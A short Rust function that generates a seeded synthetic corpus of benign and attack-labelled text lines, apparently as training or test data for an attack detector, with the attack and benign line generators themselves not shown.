pub(crate) fn synthetic_corpus(n: usize, seed: u64) -> (Vec<String>, Vec<bool>) {
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(seed),
        clock: 0,
    };
    let mut texts = Vec::with_capacity(n);
    let mut labels = Vec::with_capacity(n);
    // Bursts average ~3 lines over all attack kinds: 0.025 events/line gives ~5% attack lines.
    while texts.len() < n {
        if g.rng.random_bool(0.025) {
            let before = texts.len();
            g.attack(&mut texts, n - before);
            labels.resize(texts.len(), true);
        } else {
            let mut line = String::with_capacity(160);
            g.benign(&mut line);
            texts.push(line);
            labels.push(false);
        }
    }
    (texts, labels)
}
